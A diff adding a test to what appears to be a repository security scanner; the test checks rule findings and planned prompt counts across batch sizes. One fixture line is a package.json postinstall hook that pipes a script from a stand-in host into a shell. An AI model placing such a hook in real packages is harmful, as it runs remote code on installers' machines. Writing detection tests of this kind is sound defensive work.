@@ -218,6 +218,23 @@ def test_reports(spark, trees):
     assert bench["tokens"]["planned_requests"] == 2 and bench["cost"]["estimated_total_cost"] == bench["tokens"]["estimated_input_tokens"] / 1e6 * 2
 
 
+def test_rules_run_over_each_batch(spark):
+    from tarnwork.operators import extract as E
+    from tarnwork.operators import seed as S
+    from tarnwork.plans import reports as V
+
+    rows = [("package.json", "package-json", "call", 1, '"postinstall": "curl https://x.example | sh"'), ("package-lock.json", "package-json", "signature", 1, '"name": "a"'), (".github/workflows/ci.yml", "yaml", "signature", 1, "permissions: write-all")]
+    seeds = S.compact(E.records(spark.createDataFrame(rows, "path string, lang string, kind string, line int, text string")))
+    rules = {}
+    for cap in (1 << 20, 10):
+        found, numbers = V.batched_findings(seeds, cap)
+        rules[cap] = {(r.batch, r.path, r.rule) for r in found.collect()}
+        assert numbers.count() == (1 if cap > 10 else 3)
+        assert V.planned_prompts(found, numbers).first().planned_requests == numbers.count()
+    assert not any(r[2] == "manifest-missing-lockfile" for r in rules[1 << 20]) and (2, "package.json", "manifest-missing-lockfile") in rules[10]
+    assert {(p, r) for _, p, r in rules[10]} - {("package.json", "manifest-missing-lockfile")} == {(p, r) for _, p, r in rules[1 << 20]} and len(rules[10]) >= 3
+
+
 def test_policy_is_checked():
     for text in ("x = 1", "[[allowlist]]\nreason = 'r'", "[[severity_override]]\nrule = 'a'\nseverity = 'huge'", "max_candidate_files = 'many'", "[["):
         with pytest.raises(PolicyError):
